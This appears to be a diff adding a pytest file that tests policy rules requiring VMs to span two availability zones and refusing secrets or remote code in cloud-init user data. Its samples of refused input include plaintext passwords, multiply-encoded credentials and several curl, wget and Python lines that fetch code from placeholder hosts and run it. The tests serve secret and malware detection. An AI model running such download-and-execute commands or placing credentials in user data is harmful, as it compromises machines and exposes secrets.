@@ -1,0 +1,195 @@
+"""CPT-01, CPT-05: two availability zones, and nothing hidden in user data."""
+
+from __future__ import annotations
+
+import base64
+import dataclasses
+import gzip
+import json
+
+import pytest
+
+from policies.rules import userdata
+from policies.verdicts import State
+from tests.policies import estate
+from tests.policies.cases import CONFORM, IDLE, REFUSED, UNSEEN, Case, check, to, unknown, without
+
+VM = "bubbles/warehouse/tiers/omop/1"
+PASSWORD = "Correct-Horse-9-Battery"
+
+
+def b64(text: str) -> str:
+    return base64.b64encode(text.encode()).decode()
+
+
+def gz(text: str) -> str:
+    return base64.b64encode(gzip.compress(text.encode())).decode()
+
+
+CLOUD = f"#cloud-config\npassword: {PASSWORD}\nchpasswd: {{expire: false}}\n"
+MIME = (
+    'Content-Type: multipart/mixed; boundary="B"\nMIME-Version: 1.0\n\n--B\n'
+    f"Content-Type: text/cloud-config\n\n{CLOUD}\n--B--\n"
+)
+WRITTEN = "#cloud-config\nwrite_files:\n- path: /etc/x\n  encoding: {}\n  content: {}\n"
+
+HIDDEN = {
+    "a cloud-init password": CLOUD,
+    "the same in base64": b64(CLOUD),
+    "the same in base64 twice": b64(b64(CLOUD)),
+    "the same in base64 three times": b64(b64(b64(CLOUD))),
+    "the same compressed": gz(CLOUD),
+    "the same compressed inside base64": b64(gz(CLOUD)),
+    "the same in a MIME part": MIME,
+    "the same in a MIME part in base64": b64(MIME),
+    "a user's password": f"#cloud-config\nusers:\n- name: x\n  plain_text_passwd: {PASSWORD}\n",
+    "a user's password hash": "#cloud-config\nusers:\n- name: x\n  passwd: $6$rounds=4096$abc$defghijklmnop\n",
+    "a chpasswd list": f"#cloud-config\nchpasswd:\n  list: |\n    root:{PASSWORD}\n",
+    "a chpasswd list of lines": f"#cloud-config\nchpasswd:\n  list:\n  - root:{PASSWORD}\n",
+    "chpasswd users": f"#cloud-config\nchpasswd:\n  users:\n  - {{name: x, password: {PASSWORD}, type: text}}\n",
+    "a numeric password": "#cloud-config\npassword: 12345678\n",
+    "a written file": WRITTEN.format("text/plain", f"db_password={PASSWORD}"),
+    "a written file in base64": WRITTEN.format("b64", b64(f"db_password={PASSWORD}")),
+    "a written file compressed": WRITTEN.format("gz+b64", gz(f"db_password={PASSWORD}")),
+    "a written file without its encoding": WRITTEN.format('""', b64(f"db_password={PASSWORD}")),
+    "a JSON document": json.dumps({"users": [{"name": "x", "passwd": PASSWORD}]}),
+    "a shell variable": f"#!/bin/sh\nexport DB_PASSWORD='{PASSWORD}'\n",
+    "a token": "#!/bin/sh\nTOKEN=abcd1234efgh\n",
+    "an api key": "#!/bin/sh\nAPI-KEY: abcd1234efgh\n",
+    "echo to chpasswd": f"#!/bin/bash\necho 'root:{PASSWORD}' | sudo chpasswd\n",
+    "a here-string to chpasswd": f'#!/bin/bash\nchpasswd <<< "root:{PASSWORD}"\n',
+    "useradd": "#!/bin/sh\nuseradd -m -p abc123 x\n",
+    "a runcmd list": f'#cloud-config\nruncmd:\n- [sh, -c, "mysql --password {PASSWORD}"]\n',
+    "a URL": f"#!/bin/sh\npg_dump postgres://u:{PASSWORD}@db/x\n",
+    "a private key": "#cloud-config\nssh_keys:\n  rsa_private: |\n    -----BEGIN RSA PRIVATE KEY-----\n    abc\n",
+    "a private key in a script": "#!/bin/sh\ncat > k <<E\n-----BEGIN OPENSSH PRIVATE KEY-----\nE\n",
+    "a random value": "#!/bin/sh\n./run q8Zr3Kx9Lw2Vt7Yb5Nc1Mf4Hd6Jg0Ps8\n",
+    "random hexadecimal": "#!/bin/sh\n./run 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b\n",
+    "a download that runs": "#!/bin/sh\ncurl -fsSL https://get.example.org/x.sh | sh\n",
+    "a download over two lines": "#!/bin/sh\nwget -O x \\\n https://get.example.org/x.sh\nsh x\n",
+    "a download by address": "#!/bin/sh\ncurl http://203.0.113.9/x | sh\n",
+    "a download in a command list": "#cloud-config\nruncmd:\n- [curl, -o, x, 'https://get.example.org/x']\n",
+    "an include": "#include\nhttps://get.example.org/cloud.yaml\n",
+    "a download in Python": "#!/usr/bin/python3\nimport urllib.request as u\nexec(u.urlopen('https://e.org/x').read())\n",
+}
+
+HARMLESS = {
+    "nothing": "",
+    "a package list": "#cloud-config\npackages: [nginx, postgresql]\npackage_update: true\n",
+    "a public key": "#cloud-config\nssh_authorized_keys:\n- ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ8Zr3Kx9Lw2Vt7Yb5Nc1M a@b\n",
+    "a password that is made at boot": "#cloud-config\nchpasswd:\n  list: |\n    root:RANDOM\n",
+    "a reference to the vault": "#!/bin/sh\nDB_PASSWORD=${VAULT_PASSWORD}\nTOKEN=$(bao read -field=x secret/x)\n",
+    "a file that holds a secret": "#!/bin/sh\nPGPASSFILE=/run/secrets/pgpass\nPASSWORD_FILE=/run/secrets/x\n",
+    "locked passwords": "#cloud-config\nusers:\n- name: x\n  lock_passwd: true\nssh_pwauth: false\n",
+    "a download from the platform itself": "#!/bin/sh\ncurl http://10.64.81.4/mirror/x | sh\n",
+    "a digest": "#!/bin/sh\necho sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08\n",
+    "a long word": "#!/bin/sh\necho systemd-networkd-wait-online-configuration-directory\n",
+    "base64 of something harmless": b64("#cloud-config\npackages: [nginx]\n"),
+}
+
+USER_DATA = [
+    Case("a machine without user data conforms", VM, without("userData"), CONFORM),
+    Case("empty user data conforms", VM, to(userData=""), CONFORM),
+    Case("unknown user data waits", VM, unknown("userData"), UNSEEN),
+    Case("a list for user data is refused", VM, to(userData=["x"]), REFUSED, "wrong type"),
+    *(Case(f"{name} is seen", VM, to(userData=text), REFUSED, "user data") for name, text in HIDDEN.items()),
+    *(Case(f"{name} passes", VM, to(userData=text), CONFORM) for name, text in HARMLESS.items()),
+]
+
+ZONES = [
+    Case("a machine in its planned zone conforms", VM, None, CONFORM),
+    Case("the bastion conforms", "bastion/1", None, CONFORM),
+    Case("another zone than planned is refused", VM, to(placementSubregionName="cloudgouv-eu-west-1b"), REFUSED,
+         "not in the planned a"),
+    Case("an unknown zone waits", VM, unknown("placementSubregionName"), UNSEEN),
+    Case("no zone is refused", VM, without("placementSubregionName"), REFUSED),
+    Case("a number for a zone is refused", VM, to(placementSubregionName=1.0), REFUSED, "wrong type"),
+    Case("spaces around a zone change nothing", VM, to(placementSubregionName=" cloudgouv-eu-west-1a"), CONFORM),
+    Case("a machine of no plan is refused", VM, to(subject="bubbles/warehouse/tiers/x/1"), REFUSED, "no such machine"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("case", ZONES, ids=str)
+def test_cpt_01(case: Case) -> None:
+    check("CPT-01", case)
+
+
+@pytest.mark.parametrize("case", USER_DATA, ids=str)
+def test_cpt_05(case: Case) -> None:
+    check("CPT-05", case)
+
+
+@pytest.mark.parametrize("text", HIDDEN.values(), ids=HIDDEN.keys())
+def test_what_is_found_is_never_shown(text: str) -> None:
+    changed = estate.estate_of()
+    changed[VM].properties["userData"] = text
+    message = estate.say(estate.judge_of(changed.plan), changed, "CPT-05", VM).message
+    for secret in (
+        PASSWORD,
+        "abcd1234efgh",
+        "12345678",
+        "q8Zr3Kx9Lw2Vt7Yb5Nc1Mf4Hd6Jg0Ps8",
+        "9f86d081",
+        "abc123",
+        "$6$",
+    ):
+        assert secret not in message
+
+
+def test_user_data_that_is_wrapped_for_ever_is_refused_and_not_followed() -> None:
+    text = "x" * 20
+    for _ in range(userdata.MAX_DEPTH + 4):
+        text = b64(text)
+    assert "too deep" in " ".join(userdata.inspect(text, lambda _: True))
+
+
+def test_a_bomb_is_not_blown_up() -> None:
+    bomb = base64.b64encode(gzip.compress(b"a" * (64 << 20))).decode()
+    assert userdata.inspect(bomb, lambda _: True)
+
+
+def _tier(az_of: dict[int, str] | None = None, keep: int = 2) -> list[State]:
+    changed = estate.estate_of()
+    tier = sorted(name for name in changed.resources if name in (VM, "bubbles/warehouse/tiers/omop/2"))
+    for number, name in enumerate(tier, 1):
+        if number > keep:
+            del changed.resources[name]
+        elif az_of and number in az_of:
+            changed[name].properties["placementSubregionName"] = f"{estate.REGION}{az_of[number]}"
+    found = estate.say_whole(estate.judge_of(changed.plan), changed, "CPT-01")
+    return [one.state for one in found if one.subject == "bubbles/warehouse/tiers/omop"]
+
+
+def test_a_tier_that_is_really_in_two_zones_conforms() -> None:
+    assert _tier() == [State.CONFORM]
+
+
+def test_a_tier_that_is_really_in_one_zone_is_refused() -> None:
+    assert _tier({2: "a"}) == [State.NON_CONFORM]
+
+
+def test_a_tier_of_one_machine_is_refused() -> None:
+    assert _tier(keep=1) == [State.NON_CONFORM]
+
+
+def test_a_bastion_planned_on_one_machine_is_refused() -> None:
+    plan = estate.plan_of()
+    assert plan.bastion is not None
+    alone = dataclasses.replace(plan, bastion=dataclasses.replace(plan.bastion, machines=plan.bastion.machines[:1]))
+    assert estate.say(estate.judge_of(alone), estate.estate_of(), "CPT-01", "bastion/1").state is State.NON_CONFORM
+
+
+def test_a_tier_that_need_not_last_is_not_judged() -> None:
+    plan = estate.plan_of()
+    machines = tuple(dataclasses.replace(one, highly_available=False) for one in plan.machines)
+    judge = estate.judge_of(dataclasses.replace(plan, machines=machines))
+    assert estate.say(judge, estate.estate_of(), "CPT-01", VM).state is IDLE
+
+
+def test_a_password_in_a_blueprint_is_refused_before_its_machine_is_created() -> None:
+    changed = estate.estate_of("password-in-user-data")
+    judge = estate.judge_of(changed.plan)
+    blocking = [
+        one for name in changed.resources for one in judge.resource(changed.fact(name)) if one.effect == "block"
+    ]
+    assert {(one.rule, one.type) for one in blocking} == {("CPT-05", "outscale:index:Vm")}
